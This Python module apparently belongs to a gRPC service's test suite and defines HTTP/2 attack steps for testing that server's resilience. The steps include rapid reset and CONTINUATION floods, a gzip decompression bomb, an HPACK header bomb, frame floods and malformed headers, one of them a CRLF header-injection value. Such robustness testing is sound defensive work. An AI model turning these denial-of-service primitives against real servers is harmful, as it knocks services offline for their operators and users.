"""Steps of an attack on HTTP/2. Each writes frames that no client library writes.

A case is a list of steps; Python can evaluate its `repr`. A step writes on the attacker's latest connection,
or on a new one if that has ended.

Source: RFC 9113 (frames, settings, errors), the gRPC protocol over HTTP/2 (PROTOCOL-HTTP2.md).
"""

import gzip
import struct
from collections.abc import Sequence
from dataclasses import dataclass
from functools import lru_cache
from typing import Protocol

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from farrank.v1 import rerank_pb2 as pb
from support.hostile_connection import CHECK, GRPC, WATCH, Attacker, Connection, raw_frame

SERVICE = "/farrank.v1.RerankService/"
REFLECT = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
METHODS = (
    CHECK,
    WATCH,
    REFLECT,
    SERVICE + "Rerank",
    SERVICE + "SearchAndRerank",
    SERVICE + "ListRankers",
    "/no.Service/Method",
)

# The most frames in one write: a flood of millions needs little memory here.
TOGETHER = 512


class Step(Protocol):
    """One action of an attacker."""

    def run(self, attacker: Attacker) -> None: ...


def message_of(method: str) -> bytes:
    """Return a small valid request."""
    if method == SERVICE + "Rerank":
        return pb.RerankRequest(query="a", documents=[pb.Document(text="a b")]).SerializeToString()
    if method == SERVICE + "SearchAndRerank":
        return pb.SearchAndRerankRequest(query="a").SerializeToString()
    return b""


def prefixed(message: bytes, flag: int = 0, claimed: int | None = None) -> bytes:
    """Frame a message as gRPC sends it: a flag (1 means compressed), the length, the bytes."""
    return struct.pack(">BI", flag, len(message) if claimed is None else claimed) + message


def _repeat(connection: Connection, times: int, one: "Frames") -> None:
    """Write the frames of `one` `times` times, until the server takes no more."""
    for begun in range(0, times, TOGETHER):
        if not connection.send(b"".join(one() for _ in range(min(TOGETHER, times - begun)))):
            return


class Frames(Protocol):
    """A function that returns the bytes of the next frames."""

    def __call__(self) -> bytes: ...


@dataclass(frozen=True)
class Open:
    """Open a connection whose streams have a window of `window` bytes for answers.

    With `reads`, all that the server sends is read and its SETTINGS are acknowledged.
    """

    window: int | None = None
    reads: bool = False

    def run(self, attacker: Attacker) -> None:
        attacker.open(GRPC, self.window, reads=self.reads)


@dataclass(frozen=True)
class Streams:
    """Begin calls that send no request. `resets` cancels each at once (rapid reset)."""

    times: int
    method: str = CHECK
    resets: bool = False
    ends: bool = False
    code: int = 8

    def run(self, attacker: Attacker) -> None:
        connection = attacker.current(GRPC)
        block = connection.headers(self.method, *attacker.metadata())
        flags = ("END_HEADERS", "END_STREAM") if self.ends else ("END_HEADERS",)

        def one() -> bytes:
            stream = connection.stream()
            made = HeadersFrame(stream, block, flags=flags).serialize()
            if self.resets:
                made += RstStreamFrame(stream, self.code).serialize()
            return made

        _repeat(connection, self.times, one)


@dataclass(frozen=True)
class Calls:
    """Make complete calls of a method, and read no answers."""

    times: int
    method: str = CHECK

    def run(self, attacker: Attacker) -> None:
        connection = attacker.current(GRPC)
        block = connection.headers(self.method, *attacker.metadata())
        data = prefixed(message_of(self.method))

        def one() -> bytes:
            stream = connection.stream()
            head = HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()
            return head + DataFrame(stream, data, flags=["END_STREAM"]).serialize()

        _repeat(connection, self.times, one)


@dataclass(frozen=True)
class Messages:
    """Begin calls and send `sent` bytes of a message that claims another length or compression."""

    times: int
    method: str = SERVICE + "Rerank"
    flag: int = 0
    claimed: int = 1_000_000
    sent: int = 10
    encoding: str = ""
    ends: bool = False

    def run(self, attacker: Attacker) -> None:
        connection = attacker.current(GRPC)
        more = (("grpc-encoding", self.encoding),) if self.encoding else ()
        block = connection.headers(self.method, *more, *attacker.metadata())
        data = prefixed(b"\n" * self.sent, self.flag, self.claimed)

        def one() -> bytes:
            stream = connection.stream()
            return HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize() + _data(
                stream, data, ends=self.ends
            )

        _repeat(connection, self.times, one)


def _data(stream: int, data: bytes, *, ends: bool) -> bytes:
    parts = [data[at : at + 16_384] for at in range(0, len(data), 16_384)]
    made = [DataFrame(stream, part) for part in parts]
    if ends:
        made[-1].flags.add("END_STREAM")
    return b"".join(each.serialize() for each in made)


@lru_cache(maxsize=4)
def _bomb(mebibytes: int) -> bytes:
    return gzip.compress(bytes(mebibytes << 20), 9)


@dataclass(frozen=True)
class Bombs:
    """Send messages that unpack to a thousand times their size. Each must fit the server's windows."""

    times: int
    mebibytes: int
    method: str = SERVICE + "Rerank"

    def run(self, attacker: Attacker) -> None:
        for _ in range(self.times):
            connection = attacker.open(GRPC)
            block = connection.headers(self.method, ("grpc-encoding", "gzip"), *attacker.metadata())
            connection.frames(HeadersFrame(1, block, flags=["END_HEADERS"]))
            connection.send(_data(1, prefixed(_bomb(self.mebibytes), flag=1), ends=True))


@dataclass(frozen=True)
class Continuations:
    """Send headers in many parts, with or without an end."""

    times: int
    size: int = 100
    ends: bool = False
    block: bytes = b"\x00\x01a\x01b"

    def run(self, attacker: Attacker) -> None:
        connection = attacker.current(GRPC)
        stream = connection.stream()
        head = connection.headers(CHECK, *attacker.metadata())
        connection.frames(HeadersFrame(stream, head))
        payload = (self.block * (self.size // len(self.block) + 1))[: self.size]
        part = ContinuationFrame(stream, payload).serialize()
        _repeat(connection, self.times, lambda: part)
        if self.ends:
            connection.frames(ContinuationFrame(stream, b"", flags=["END_HEADERS"]))


@dataclass(frozen=True)
class Settings:
    """Send settings, which may be unknown or beyond their limits."""

    times: int
    setting: int = SettingsFrame.HEADER_TABLE_SIZE
    value: int = 4096

    def run(self, attacker: Attacker) -> None:
        made = raw_frame(4, 0, 0, struct.pack(">HI", self.setting, self.value))
        _repeat(attacker.current(GRPC), self.times, lambda: made)


@dataclass(frozen=True)
class Pings:
    """Send pings, or acknowledge pings that the server did not send."""

    times: int
    ack: bool = False

    def run(self, attacker: Attacker) -> None:
        made = PingFrame(0, b"12345678", flags=["ACK"] if self.ack else []).serialize()
        _repeat(attacker.current(GRPC), self.times, lambda: made)


@dataclass(frozen=True)
class Windows:
    """Open the window for answers in steps of `increment` bytes, on a stream (0: the connection)."""

    times: int
    stream: int = 0
    increment: int = 1

    def run(self, attacker: Attacker) -> None:
        # hyperframe refuses an increment of 0.
        made = raw_frame(8, 0, self.stream, self.increment.to_bytes(4))
        _repeat(attacker.current(GRPC), self.times, lambda: made)


@dataclass(frozen=True)
class Priorities:
    """Send priorities, for streams that do not exist or depend on themselves."""

    times: int
    stream: int = 1
    depends_on: int = 1

    def run(self, attacker: Attacker) -> None:
        made = raw_frame(2, 0, self.stream, self.depends_on.to_bytes(4) + b"\1")
        _repeat(attacker.current(GRPC), self.times, lambda: made)


@dataclass(frozen=True)
class Resets:
    """Reset streams that have ended or never began."""

    times: int
    stream: int = 1
    code: int = 0

    def run(self, attacker: Attacker) -> None:
        made = raw_frame(3, 0, self.stream, self.code.to_bytes(4))
        _repeat(attacker.current(GRPC), self.times, lambda: made)


@dataclass(frozen=True)
class GoAways:
    """Announce the end of the connection, and go on using it."""

    times: int
    last_stream: int = 0
    code: int = 0

    def run(self, attacker: Attacker) -> None:
        made = raw_frame(7, 0, 0, self.last_stream.to_bytes(4) + self.code.to_bytes(4))
        _repeat(attacker.current(GRPC), self.times, lambda: made)


@dataclass(frozen=True)
class Raw:
    """Send frames of any kind, flags, stream and payload. The header may claim another length."""

    times: int
    kind: int
    flags: int
    stream: int
    size: int
    claimed: int | None = None

    def run(self, attacker: Attacker) -> None:
        made = raw_frame(self.kind, self.flags, self.stream, bytes(self.size), self.claimed)
        _repeat(attacker.current(GRPC), self.times, lambda: made)


@dataclass(frozen=True)
class Garbage:
    """Send bytes that are not frames."""

    data: bytes
    times: int = 1

    def run(self, attacker: Attacker) -> None:
        _repeat(attacker.current(GRPC), self.times, lambda: self.data)


# Header blocks that are wrong, each in a different way. A gRPC call's fields precede them.
ODD_FIELDS: dict[str, Sequence[tuple[str, str]]] = {
    "upper case": (("Upper", "a"),),
    "pseudo twice": ((":path", "/"),),
    "pseudo late": (("a", "b"), (":scheme", "http")),
    "pseudo unknown": ((":what", "b"),),
    "connection": (("connection", "close"),),
    "empty name": (("", "b"),),
    "line break": (("a", "b\r\nc: d"),),
    "zero byte": (("a", "\x00"),),
    "large": (("a", "b" * 7_000),),
    "too large": (("a", "b" * 15_000),),
    "many": tuple((f"name-{number}", "b") for number in range(300)),
    "timeout wrong": (("grpc-timeout", "x"),),
    "timeout none": (("grpc-timeout", "0n"),),
    "timeout long": (("grpc-timeout", "99999999H"),),
    "encoding unknown": (("grpc-encoding", "rot13"),),
    "binary wrong": (("a-bin", "&&&"),),
    "length": (("content-length", "7"),),
    "trailers of a server": (("grpc-status", "0"), ("grpc-message", "%ff%")),
}


@dataclass(frozen=True)
class OddHeaders:
    """Begin calls with wrong headers."""

    times: int
    odd: str
    method: str = CHECK
    ends: bool = False

    def run(self, attacker: Attacker) -> None:
        connection = attacker.current(GRPC)
        block = connection.headers(self.method, *attacker.metadata(), *ODD_FIELDS[self.odd])
        flags = ("END_HEADERS", "END_STREAM") if self.ends else ("END_HEADERS",)
        _repeat(
            connection,
            self.times,
            lambda: HeadersFrame(connection.stream(), block, flags=flags).serialize(),
        )


@dataclass(frozen=True)
class HeaderBombs:
    """Fill the dynamic table with one field, and refer to it many times in every call."""

    times: int
    references: int = 3_000
    method: str = CHECK

    def run(self, attacker: Attacker) -> None:
        connection = attacker.current(GRPC)
        # A literal with indexing: the field has index 62, the newest of the dynamic table.
        fill = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4_000
        head = connection.headers(self.method)
        connection.frames(HeadersFrame(connection.stream(), head + fill, flags=["END_HEADERS", "END_STREAM"]))
        block = head + b"\xbe" * self.references
        _repeat(
            connection,
            self.times,
            lambda: HeadersFrame(connection.stream(), block, flags=["END_HEADERS", "END_STREAM"]).serialize(),
        )


@dataclass(frozen=True)
class Trailers:
    """Send headers at wrong places: within a call, with a path, or after its end."""

    times: int
    where: str = "middle"

    def run(self, attacker: Attacker) -> None:
        connection = attacker.current(GRPC)
        block = connection.headers(CHECK, *attacker.metadata())
        trailer: bytes = connection.encoder.encode([("grpc-status", "0", True)])

        def one() -> bytes:
            stream = connection.stream()
            head = HeadersFrame(stream, block, flags=["END_HEADERS"])
            data = DataFrame(stream, prefixed(b""))
            end = HeadersFrame(stream, trailer, flags=["END_HEADERS", "END_STREAM"])
            middle = HeadersFrame(stream, trailer, flags=["END_HEADERS"])
            again = HeadersFrame(stream, block, flags=["END_HEADERS"])
            frames = {
                "middle": (head, middle, data, end),
                "at the end": (head, data, end),
                "twice": (head, data, end, end),
                "after the end": (head, data, end, data),
                "a call": (head, again, data, end),
                "none but": (end,),
            }[self.where]
            return b"".join(each.serialize() for each in frames)

        _repeat(connection, self.times, one)


@dataclass(frozen=True)
class Read:
    """Read up to `size` bytes that the server sent."""

    size: int

    def run(self, attacker: Attacker) -> None:
        attacker.current(GRPC).read(self.size)


@dataclass(frozen=True)
class Leave:
    """Close every connection."""

    def run(self, attacker: Attacker) -> None:
        attacker.close()
